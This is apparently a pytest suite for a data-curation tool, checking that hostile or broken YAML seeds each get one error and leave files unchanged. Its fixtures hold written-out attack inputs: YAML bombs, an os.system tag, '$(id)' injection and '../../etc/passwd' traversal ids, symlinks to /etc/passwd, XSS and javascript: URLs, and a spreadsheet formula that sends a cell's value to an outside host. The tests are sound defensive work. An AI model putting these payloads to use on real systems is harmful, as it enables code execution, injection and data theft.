"""Seeds that are to do harm, or were damaged: one clear sentence each, and nothing is lost.

What is put where, and what is said of it. Texts and pages have the like in test_hostile_texts.py.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any, Final

import pytest
from hostile_seeds import Hostile, a_socket, called, device, in_place_of, put, saved_as, swap
from small_commands import check, compile_in, state, with_candidate
from small_seeds import AGENCY, MINISTRY, PLACES, VOCABULARIES, WEEKLY

from curation.codebook_page import codebook_page
from curation.findings import shown
from curation.reading import read_seeds
from envoylog import Release

ROOT: Final = Path(__file__).resolve().parent.parent
LONG_ENOUGH: Final = 120
"""Seconds after which a command is taken to hang; all of these take less than one."""

ENVOY: Final = "actors/envoy.yaml"
TITLE: Final = '"Envoy says no"'
OWN: Final = "https://agency.example/agency-2026-01-13"
PERSON: Final = 'kind: person\nnames:\n  - {text: "X", language: en, kind: label}\n'
LAUGHS: Final = "".join(f"{b}: &{b} [*{a}, *{a}, *{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
MARKS: Final = "\u0301\u0323"  # in no canonical order: to sort a row of them takes the square of its length
ESCAPED: Final = r"\u0301\u0323"
UNSEEN: Final = "\u200b"
MANY: Final = 99_000
DEEP: Final = "too-deep: this is nested 13 deep; nest at most 12 deep"
FOR_PROGRAMS: Final = "is YAML for programs; write the value out, as plain text"
TOO_LONG: Final = "letters; write at most 10,000"

BOMBS: Final = [
    Hostile("nested lists", put(AGENCY, "a: " + "[" * 100_000), [f"{AGENCY}:1:15: {DEEP}"]),
    Hostile("nested records", put(AGENCY, "a: " + "{a: " * MANY), [f"{AGENCY}:1:48: {DEEP}"]),
    Hostile("indented blocks", put(AGENCY, "".join(f"{' ' * n}a:\n" for n in range(900))), [f"{AGENCY}:13:13: {DEEP}"]),
    Hostile("dashes", put(AGENCY, "- " * MANY), [f"{AGENCY}:1:25: {DEEP}"]),
    Hostile("question marks", put(AGENCY, "? " * MANY), [f"{AGENCY}:1:25: {DEEP}"]),
    Hostile(
        "aliases of aliases",
        put(AGENCY, f"a: &a [ha]\n{LAUGHS}"),
        [
            f"{AGENCY}:1:4: anchor-alias-tag: `&a` {FOR_PROGRAMS}",
            f"{AGENCY}:2:4: anchor-alias-tag: `&b` {FOR_PROGRAMS}",
            f"{AGENCY}:2:8: anchor-alias-tag: `*a` {FOR_PROGRAMS}",
        ],
    ),
    Hostile(
        "merge keys",
        put(AGENCY, "a: &a {x: 1}\nb: {<<: *a, <<: *a}\n"),
        [
            f"{AGENCY}:1:4: anchor-alias-tag: `&a` {FOR_PROGRAMS}",
            f"{AGENCY}:2:9: anchor-alias-tag: `*a` {FOR_PROGRAMS}",
        ],
    ),
    Hostile(
        "a tag that runs a program",
        swap("publisher: ", "publisher: !!python/name:os.system "),
        [f"{AGENCY}:2:12: anchor-alias-tag: `tag:yaml.org,2002:python/name:os.system` {FOR_PROGRAMS}"],
    ),
    Hostile(
        "a tag of one's own",
        swap("publisher: ", "publisher: !<tag:a.example,2026:b> "),
        [f"{AGENCY}:2:12: anchor-alias-tag: `tag:a.example,2026:b` {FOR_PROGRAMS}"],
    ),
    Hostile(
        "a version of YAML that there is not",
        swap("id: ", "%YAML 9.9\n---\nid: "),
        [f"{AGENCY}:1:1: not-yaml: found incompatible YAML document; compare a file that is right"],
    ),
    Hostile(
        "50 MB", put(AGENCY, b"x" * 50_000_000), [f"{AGENCY}:1:1: too-large: the file has more than 2,000,000 bytes"]
    ),
    Hostile(
        "as many keys as fit",
        swap("reports:", "".join(f"k{n}: v\n" for n in range(MANY)) + "reports:"),
        [f"{AGENCY}:{11 + n}:1: unknown-key: a source has no key `k{n}`; leave it out" for n in range(5)],
    ),
    Hostile(
        "one key as often as it fits",
        swap("reports:", "coded_by: ann\n" * MANY + "reports:"),
        [f"{AGENCY}:11:1: duplicate-key: `coded_by` stands in line 10 already, and so do {MANY - 1} others; write"],
    ),
    Hostile(
        "as many items as fit",
        swap("[envoy]", "[" + "envoy, " * 190_000 + "]"),
        [
            *(f"{AGENCY}:30:{23 + 7 * n}: twice: `envoy` stands in line 30 already; write it once" for n in range(5)),
            f"{AGENCY}:30:15: wrong-length: this list holds 190000; list at most 100,000",
        ],
    ),
    Hostile(
        "more items than fit",
        swap("[envoy]", "[" + "a," * 250_000 + "]"),
        [f"{AGENCY}:1:1: too-many-parts: the file has more than 200,000 parts; split it"],
    ),
    Hostile(
        "as many unknown ids as fit",
        swap("[envoy]", f"[{', '.join(f'nobody-{n}' for n in range(MANY))}]"),
        [
            f"{AGENCY}:30:{16 + 10 * n}: unknown-actor: no actor `nobody-{n}`; add seeds/actors/nobody-{n}."
            for n in range(5)
        ],
    ),
    Hostile(
        "a headline of 1.9 MB",
        swap(TITLE, f'"{"x" * 1_900_000}"'),
        [f"{AGENCY}:3:8: bad-text: this value has 1,900,000 {TOO_LONG}"],
    ),
    Hostile(
        "an id of 1.9 MB",
        swap("publisher: agency", f"publisher: {'a-' * 950_000}a"),
        [f"{AGENCY}:2:12: bad-id: this value has 1,900,001 {TOO_LONG}"],
    ),
    Hostile(
        "an address of 1.8 MB",
        swap(OWN, f"https://a.example/{'%41' * 600_000}%4"),
        [f"{AGENCY}:4:6: bad-address: this value has 1,800,020 {TOO_LONG}"],
    ),
    Hostile(
        "a number of 1.9 MB",
        swap("latitude: 55.75", f"latitude: 55.{'7' * 1_900_000}", PLACES),
        [f"{PLACES}:6:15: bad-latitude: this value has 1,900,003 {TOO_LONG}"],
    ),
    Hostile(
        "a key of 1.9 MB",
        swap("publisher: ", f"{'k' * 1_900_000}: x\npublisher: "),
        [f"{AGENCY}:2:1900001: not-yaml: while scanning a simple key: could not find expected ':'"],
    ),
    Hostile(
        "1.9 MB of marks on one letter",
        swap('"The Envoy"', f'"a{MARKS * 475_000}"', ENVOY),
        [f"{ENVOY}:4:14: not-nfc: 950,000 marks stand on one letter; delete them: no script has more than a few"],
    ),
    Hostile(
        "marks written as escapes",
        swap('"The Envoy"', f'"a{ESCAPED * 158_000}"', ENVOY),
        [
            f"{ENVOY}:4:12: bad-text: this value has 316,001 {TOO_LONG}",
            f"{ENVOY}:4:12: not-nfc: 316,000 marks stand on one letter; delete them: no script has more than a few",
        ],
    ),
    Hostile(
        "1.9 MB that nobody sees",
        swap('"The Envoy"', f'"{UNSEEN * 630_000}"', ENVOY),
        [f"{ENVOY}:4:13: control-character: U+200B ZERO WIDTH SPACE and 629,999 more in this file; delete it"],
    ),
]

NO_UTF_8: Final = "not-utf-8: the file is in UTF-16 or UTF-32, or is no text; save the file as UTF-8"
NO_TEXT: Final = [
    Hostile(
        "UTF-16 with its mark",
        saved_as("utf-16"),
        [f"{AGENCY}:1:1: not-utf-8: the file is in UTF-16; save the file as UTF-8"],
    ),
    Hostile("UTF-16 without", saved_as("utf-16-le"), [f"{AGENCY}:1:1: {NO_UTF_8}"]),
    Hostile("UTF-16 the other way round", saved_as("utf-16-be"), [f"{AGENCY}:1:1: {NO_UTF_8}"]),
    Hostile(
        "UTF-32 with its mark",
        saved_as("utf-32"),
        [f"{AGENCY}:1:1: not-utf-8: the file is in UTF-32; save the file as UTF-8"],
    ),
    Hostile("UTF-32 without", saved_as("utf-32-be"), [f"{AGENCY}:1:1: {NO_UTF_8}"]),
    Hostile("zeros", put(AGENCY, bytes(1000)), [f"{AGENCY}:1:1: {NO_UTF_8}"]),
    Hostile(
        "UTF-8 with a mark",
        saved_as("utf-8-sig"),
        [f"{AGENCY}:1:1: byte-order-mark: U+FEFF ZERO WIDTH NO-BREAK SPACE; run `python b"],
    ),
    Hostile(
        "Windows Latin",
        saved_as("cp1252"),
        [f"{AGENCY}:33:38: not-utf-8: byte 937 of the file is not UTF-8; save the file"],
    ),
    Hostile(
        "a picture",
        put(AGENCY, b"\x89PNG\r\n\x1a\n\0\rIHDR"),
        [f"{AGENCY}:1:1: not-utf-8: byte 1 of the file is not UTF-8; save the file"],
    ),
    Hostile(
        "a letter longer than it need be",
        swap("Envoy", b"Env\xc0\xafoy"),
        [f"{AGENCY}:3:12: not-utf-8: byte 52 of the file is not"],
    ),
    Hostile(
        "half of a pair",
        swap("Envoy", b"Env\xed\xa0\x80oy"),
        [f"{AGENCY}:3:12: not-utf-8: byte 52 of the file is not UTF-8"],
    ),
    Hostile(
        "half of a pair as an escape",
        swap("Envoy", r"Env\ud83d oy"),
        [f"{AGENCY}:3:14: not-yaml: while parsing a quoted scalar: found invalid Unicode character escape code"],
    ),
    Hostile("a NUL", swap("Envoy", b"Env\0oy"), [f"{AGENCY}:3:12: control-character: U+0000; delete it"]),
    Hostile(
        "a NUL as an escape",
        swap("Envoy", r"Env\0oy"),
        [f"{AGENCY}:3:8: control-character: U+0000 is written as an escape; delete it"],
    ),
    Hostile(
        "a line that only some end",
        swap("Envoy", "Env\u2028oy"),
        [f"{AGENCY}:3:12: control-character: U+2028 LINE SEPARATOR; delete it"],
    ),
    Hostile(
        "a line that YAML ends", swap("Envoy", "Env\u0085oy"), [f"{AGENCY}:3:12: control-character: U+0085; delete it"]
    ),
    Hostile(
        "what a terminal obeys",
        swap("Envoy", "\x1b]0;title\x07oy"),
        [f"{AGENCY}:3:9: control-character: U+001B and 1 more in this file; delete it"],
    ),
    Hostile(
        "what a terminal obeys, as an escape",
        swap("Envoy", r"\e[2J"),
        [f"{AGENCY}:3:8: control-character: U+001B is written as an escape; delete it"],
    ),
    Hostile(
        "no character at all", swap("Envoy", "Env\U0001ffff"), [f"{AGENCY}:3:12: control-character: U+1FFFF; delete it"]
    ),
]

RIGHT_ID: Final = "write lower-case letters a-z and digits joined by single hyphens, at most 80 characters"
RIGHT_ADDRESS: Final = "write an http:// or https:// address, no name or password, all but ASCII percent-encoded"
RIGHT_NUMBER: Final = "write digits alone: no separators, no unit"
IDS: Final = ["../../etc/passwd", ".", "..", "/etc", "-a", "CON", "AGENCY", "a b", "$(id)", "`id`", "a;b", "a" * 300]
MEANT: Final = dict(
    pair.split(" → ")
    for pair in (
        *("../../etc/passwd → etc-passwd", "/etc → etc", "-a → a", "AGENCY → agency", "a b → a-b", "$(id) → id"),
        *("`id` → id", "a;b → a-b", "https://a.example/a b → https://a.example/a%20b"),
        "https://a.example/<script> → https://a.example/%3Cscript%3E",
    )
)
LOOK_ALIKES: Final = {
    "аgency": "U+0430 CYRILLIC SMALL LETTER A",
    "agenсy": "U+0441 CYRILLIC SMALL LETTER ES",
    "ａgency": "U+FF41 FULLWIDTH LATIN SMALL LETTER A",
    "agency¹": "U+00B9 SUPERSCRIPT ONE",
    "agency٣": "U+0663 ARABIC-INDIC DIGIT THREE",
}
ADDRESSES: Final = [
    *(
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "FILE:///etc/passwd",
        "//a.example",
    ),
    *("https://me:secret@a.example/", "https://a.example/a b", "https://a.example/<script>", "https://a.example/#a#b"),
    *("https://a.example/%zz", "https:/a.example", "https://", r"https://a.example\@b.example/"),
]


def right(value: str, otherwise: str) -> str:
    """What is suggested for a value: what it would be in the right form, where it has one."""
    return f"did you mean `{MEANT[value]}`?" if value in MEANT else otherwise


VALUES: Final = [
    *(
        Hostile(
            f"the id {shown(each)}",
            swap("id: envoy", f'id: "{each}"', ENVOY),
            [f"{ENVOY}:1:5: bad-id: `{shown(each)}` is no id; {right(each, RIGHT_ID)}"],
        )
        for each in IDS
    ),
    *(
        Hostile(
            f"a letter that is {letter}",
            swap("publisher: agency", f"publisher: {each}"),
            [f"{AGENCY}:2:12: bad-id: `{each}` is no id: it has {letter}; did you mean `agency`?"],
        )
        for each, letter in LOOK_ALIKES.items()
    ),
    Hostile(
        "an id with what nobody sees",
        swap("id: envoy", "id: en\u200bvoy", ENVOY),
        [f"{ENVOY}:1:7: control-character: U+200B ZERO WIDTH SPACE; delete it"],
    ),
    *(
        Hostile(
            f"a device of Windows: {each}",
            put(f"actors/{each}.yaml", f"id: {each}\n{PERSON}"),
            [f"actors/{each}.yaml:1:5: bad-id: `{each}` is the name of a device in Windows; {RIGHT_ID}"],
        )
        for each in ("con", "nul", "com1")
    ),
    Hostile(
        "a name that is blank",
        swap('"The Envoy"', '"\u3164"', ENVOY),
        [f"{ENVOY}:4:13: control-character: U+3164 HANGUL FILLER; delete it"],
    ),
    Hostile(
        "a name with what nobody sees",
        swap('"The Envoy"', '"The\u2060 Envoy"', ENVOY),
        [f"{ENVOY}:4:16: control-character: U+2060 WORD JOINER; delete it"],
    ),
    Hostile(
        "a name that hides a letter",
        swap('"The Envoy"', '"The Envoy\U000e0041"', ENVOY),
        [f"{ENVOY}:4:22: control-character: U+E0041 TAG LATIN CAPITAL LETTER A; delete it"],
    ),
    Hostile(
        "a name read the other way",
        swap('"The Envoy"', '"\u202eThe Envoy"', ENVOY),
        [f"{ENVOY}:4:13: bidi-control: U+202E RIGHT-TO-LEFT OVERRIDE; delete it: quotation marks are enough"],
    ),
    *(
        Hostile(
            f"the address {each}",
            swap(OWN, f"'{each}'"),
            [f"{AGENCY}:4:6: bad-address: `{each}` is no address; {right(each, RIGHT_ADDRESS)}"],
        )
        for each in ADDRESSES
    ),
    Hostile(
        "a host in Cyrillic",
        swap(OWN, "https://агентство.рф/"),
        [f"{AGENCY}:4:6: bad-address: `https://агентство.рф/` is no address: it has U+0430 CYRILLIC SMALL LETTER A; "],
    ),
    Hostile(
        "a number beyond all counting",
        swap("amount: 7000000000", "amount: 1e400", WEEKLY),
        [f"{WEEKLY}:45:13: bad-whole-number: `1e400` is no whole number; {RIGHT_NUMBER}"],
    ),
    Hostile(
        "a number that no column holds",
        swap("amount: 7000000000", f"amount: {'9' * 400}", WEEKLY),
        [f"{WEEKLY}:45:13: bad-whole-number: `{'9' * 60}…` is no whole number; {RIGHT_NUMBER}"],
    ),
    Hostile(
        "a year before all records",
        swap("date: 2026-01-05", "date: 0001", MINISTRY),
        [f"{MINISTRY}:20:11: bad-window: `0001` is no window; write YYYY"],
    ),
    Hostile(
        "a year that no calendar has",
        swap("date: 2026-01-05", "date: 99999-01-01", MINISTRY),
        [f"{MINISTRY}:20:11: bad-window: `99999-01-01` is no window; write YYYY"],
    ),
]

UNLIKE: Final = "name the file by its id"
NO_SEED: Final = "that is no seed; keep here sources/<year>/<id>.yaml"
STRANGE: Final = [
    Hostile(
        "a folder in a list's place",
        in_place_of("topics.yaml", Path.mkdir),
        [f"topics.yaml:1:1: stray-file: a folder {NO_SEED}"],
    ),
    Hostile(
        "a folder in a record's place", in_place_of(ENVOY, Path.mkdir), [f"{ENVOY}:1:1: stray-file: a folder {NO_SEED}"]
    ),
    Hostile(
        "a file in a folder's place", in_place_of("sources", Path.touch), [f"sources:1:1: stray-file: a file {NO_SEED}"]
    ),
    Hostile(
        "a link to itself",
        in_place_of(ENVOY, lambda path: path.symlink_to(path.name)),
        [f"{ENVOY}:1:1: stray-file: a symbolic link {NO_SEED}"],
    ),
    Hostile(
        "a link back up",
        lambda seeds: (seeds / "actors/up").symlink_to(".."),
        [f"actors/up:1:1: stray-file: a symbolic link {NO_SEED}"],
    ),
    Hostile(
        "a folder elsewhere",
        in_place_of("sources/2026", lambda path: path.symlink_to("/etc")),
        [f"sources/2026:1:1: stray-file: a symbolic link {NO_SEED}"],
    ),
    Hostile(
        "a file elsewhere",
        in_place_of("topics.yaml", lambda path: path.symlink_to("/etc/passwd")),
        [f"topics.yaml:1:1: stray-file: a symbolic link {NO_SEED}"],
    ),
    Hostile(
        "a pipe that nobody fills",
        in_place_of("topics.yaml", os.mkfifo),
        [f"topics.yaml:1:1: stray-file: a file {NO_SEED}"],
    ),
    Hostile(
        "a pipe among the actors",
        lambda seeds: os.mkfifo(seeds / "actors/pipe.yaml"),
        [f"actors/pipe.yaml:1:1: stray-file: a file {NO_SEED}"],
    ),
    Hostile("a device", in_place_of("topics.yaml", device), [f"topics.yaml:1:1: stray-file: a file {NO_SEED}"]),
    Hostile("a socket", in_place_of("topics.yaml", a_socket), [f"topics.yaml:1:1: stray-file: a file {NO_SEED}"]),
    Hostile(
        "a name with a line end",
        put("actors/a\nseeds:1:1.yaml", f"id: a\n{PERSON}"),
        [rf"actors/a\nseeds:1:1.yaml:1:5: id-unlike-name: `a` stands in a file named `a\nseeds:1:1`; {UNLIKE}"],
    ),
    Hostile(
        "a name that a terminal obeys",
        put("actors/\x1b[2J\x07.yaml", f"id: a\n{PERSON}"),
        [rf"actors/\x1b[2J\x07.yaml:1:5: id-unlike-name: `a` stands in a file named `\x1b[2J\x07`; {UNLIKE}"],
    ),
    Hostile(
        "a name read the other way",
        put("actors/\u202elmay.yaml", f"id: a\n{PERSON}"),
        [rf"actors/\u202elmay.yaml:1:5: id-unlike-name: `a` stands in a file named `\u202elmay`; {UNLIKE}"],
    ),
    Hostile(
        "a name that is no UTF-8",
        called(b"caf\xe9.yaml", f"id: a\n{PERSON}"),
        [rf"actors/caf\udce9.yaml:1:5: id-unlike-name: `a` stands in a file named `caf\udce9`; {UNLIKE}"],
    ),
    Hostile(
        "a name of 200 letters",
        put(f"actors/{'a' * 200}.yaml", f"id: {'a' * 200}\n{PERSON}"),
        [f"actors/{'a' * 200}.yaml:1:5: bad-id: `{'a' * 60}…` is no id; {RIGHT_ID}"],
    ),
]


@pytest.fixture
def here(tmp_path: Path) -> Path:
    """A folder with small seeds and the candidate that they made."""
    return shutil.copytree(with_candidate(), tmp_path / "here")


def all_of(folder: Path) -> tuple[dict[str, bytes], list[str]]:
    """Every file's content, and the name of whatever else there is."""
    return state(folder), sorted(os.fsdecode(path) for path in folder.rglob("*"))


@pytest.mark.parametrize("case", [*BOMBS, *NO_TEXT, *VALUES, *STRANGE], ids=lambda case: case.what)
def test_a_hostile_seed_is_answered_in_a_sentence_and_nothing_is_lost(here: Path, case: Hostile) -> None:
    case.sow(here / "seeds")
    before = all_of(here)
    for command in (check, compile_in):
        outcome = command(here, most_seconds=LONG_ENOUGH)
        assert (outcome.status, outcome.out) == (1, "")
        told = [line[len("  seeds/") :] for line in outcome.err.splitlines() if line.startswith("  seeds/")]
        assert [line[: len(said)] for line, said in zip(told, case.says, strict=True)] == case.says
        assert outcome.err.replace("\n", "").isprintable()
        assert len(outcome.err) < 4000
    assert all_of(here) == before


@pytest.mark.parametrize(
    ("path", "says"),
    [
        (ENVOY, f"seeds/{ENVOY}:1:1: unreadable: the file cannot be read: Permission denied; let it be read"),
        ("actors", "seeds/actors:1:1: unreadable: the folder cannot be read: Permission denied; let it be read"),
        ("sources/2026", "seeds/sources/2026:1:1: unreadable: the folder cannot be read: Permission denied; let it be"),
        ("", "seeds:1:1: unreadable: the folder cannot be read: Permission denied; let it be read"),
    ],
)
@pytest.mark.parametrize("command", [check, compile_in])
def test_what_may_not_be_read_is_one_finding(here: Path, command: Any, path: str, says: str) -> None:
    before, mode = all_of(here), (here / "seeds" / path).stat().st_mode
    (here / "seeds" / path).chmod(0)
    outcome = command(here, humble=True, most_seconds=LONG_ENOUGH)
    (here / "seeds" / path).chmod(mode)
    told = [line.strip() for line in outcome.err.splitlines() if line.startswith("  seeds")]
    assert (outcome.status, outcome.out, [line[: len(says)] for line in told]) == (1, "", [says])
    assert all_of(here) == before


# Where a candidate is to be written.


OUTPUTS: Final = {
    "a link to itself": (lambda path: path.symlink_to(path.name), "it is a link to itself; name another folder"),
    "a pipe": (os.mkfifo, "it is a file; name another folder, or move it away"),
    "a socket": (a_socket, "it is a file; name another folder, or move it away"),
    "a folder of someone else's": (
        lambda path: (path / "thesis").mkdir(parents=True),
        "it holds thesis, which no build",
    ),
}


@pytest.mark.parametrize(("make", "says"), OUTPUTS.values(), ids=OUTPUTS)
def test_an_output_that_is_no_candidate_is_left_as_it_is(here: Path, make: Any, says: str) -> None:
    make(here / "output")
    before = all_of(here)
    outcome = compile_in(here, "--output", here / "output", most_seconds=LONG_ENOUGH)
    assert (outcome.status, outcome.out, len(outcome.err.splitlines())) == (2, "", 1)
    assert says in outcome.err
    assert all_of(here) == before


@pytest.mark.parametrize(
    ("option", "name", "says"),
    [
        ("--output", b"caf\xe9", r"caf\udce9: its name has letters that cannot be shown; name another folder"),
        ("--output", b"a\nb\x1b[2J", r"a b\u001b[2J: its name has letters that cannot be shown; name another folder"),
        ("--output", b"x" * 300, "x: File name too long"),
        ("--seeds", b"caf\xe9", r"caf\udce9; name the folder of seeds"),
        ("--seeds", b"\x1b[2J", r"there is no folder \u001b[2J; name the folder of seeds"),
        ("--seeds", b"moved\xe9", r"the name of moved\udce9 has letters that cannot be shown; name it in others"),
    ],
)
def test_the_real_command_says_in_one_sentence_what_it_cannot_show(
    here: Path, option: str, name: bytes, says: str
) -> None:
    if name.startswith(b"moved"):
        (here / "seeds").rename(here / os.fsdecode(name))
    before = all_of(here)
    script: list[str | bytes] = [sys.executable, str(ROOT / "build" / "compile_candidate.py"), option, name]
    done = subprocess.run(script, cwd=here, capture_output=True, check=False, timeout=LONG_ENOUGH)
    (line,) = done.stderr.decode().splitlines()
    assert (done.returncode, done.stdout) == (2, b"")
    assert line.startswith("could not run: ")
    assert line.endswith(says)
    assert line.isprintable()
    assert all_of(here) == before


def test_hidden_files_are_no_seeds_and_keep_nobody_waiting(here: Path) -> None:
    os.mkfifo(here / "seeds/actors/.pipe.yaml")
    (here / "seeds/.link.yaml").symlink_to(".link.yaml")
    (here / "seeds/actors/.folder.yaml").mkdir()
    old = state(here, "candidate")
    assert compile_in(here, most_seconds=LONG_ENOUGH).status == 0
    assert state(here, "candidate") == old


SMALL_DISK: Final = """
mount -t tmpfs -o size="$1" none disk && cp -r seeds candidate disk/ || exit 77
cd disk && "$2" "$3"
status=$?
cp -r seeds candidate ../after/
exit $status
"""


def test_a_disk_that_is_full_leaves_the_old_candidate(here: Path, tmp_path: Path) -> None:
    places = (here / "seeds").rglob("*"), (here / "candidate").rglob("*")
    used = sum(-(-path.stat().st_size // 4096) * 4096 + 4096 for each in places for path in each)
    swap(TITLE, '"Envoy says no, again"')(here / "seeds")
    (here / "disk").mkdir()
    (here / "after").mkdir()
    own = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", SMALL_DISK, "sh", f"{used + 100_000}"]
    if not shutil.which("unshare"):
        pytest.skip("this system has no disks of one's own")
    script = [*own, sys.executable, str(ROOT / "build" / "compile_candidate.py")]
    done = subprocess.run(script, cwd=here, capture_output=True, text=True, check=False, timeout=LONG_ENOUGH)
    if done.returncode == 77 or done.stderr.startswith("unshare"):
        pytest.skip(f"this system gives nobody a disk of one's own: {done.stderr.strip()}")
    assert (done.returncode, done.stdout, len(done.stderr.splitlines())) == (2, "", 1)
    assert done.stderr.endswith("No space left on device; nothing was changed\n")
    assert state(here / "after") == state(here, "candidate", "seeds")


# What is only text.


FORMULA: Final = '=HYPERLINK("https://a.example/?"&A1,"<script>")'
HTML: Final = "<script>alert(1)</script><img src=x onerror=alert(1)> [so](javascript:alert(1)) | @SUM(1)"


@pytest.fixture
def told(here: Path) -> Path:
    """The same, with formulas, programs and markup for words."""
    swap(TITLE, f"'{FORMULA}'")(here / "seeds")
    swap("There was no contact, “none”.", HTML)(here / "seeds")
    swap("So.", HTML, VOCABULARIES)(here / "seeds")
    assert compile_in(here, most_seconds=LONG_ENOUGH).status == 0
    return here


def test_formulas_and_markup_are_kept_letter_by_letter(told: Path) -> None:
    release = Release(told / "candidate")
    sources, record = release.load("sources"), release.load("record")
    assert sources.loc[sources["source_id"].eq("agency-2026-01-13"), "title"].to_list() == [FORMULA]
    assert record.loc[record["event_id"].eq("denial-2026"), "position"].to_list() == [HTML]
    assert FORMULA.replace('"', '""') in (told / "candidate/data/sources.csv").read_text(encoding="utf-8")


def test_a_spreadsheet_gets_no_formula_and_a_page_no_program(told: Path) -> None:
    release = Release(told / "candidate")
    release.to_spreadsheet(told / "sources.csv", "sources")
    shown_there = (told / "sources.csv").read_text(encoding="utf-8-sig")
    assert f"'{FORMULA}".replace('"', '""') in shown_there
    page = release.trace("denial-2026", "speech_act")._repr_html_()
    written = codebook_page(read_seeds(told / "seeds"))
    for text in (page, written):
        assert "&lt;script" in text
        assert "<script" not in text
        assert "<img" not in text
    assert "](javascript:" not in written
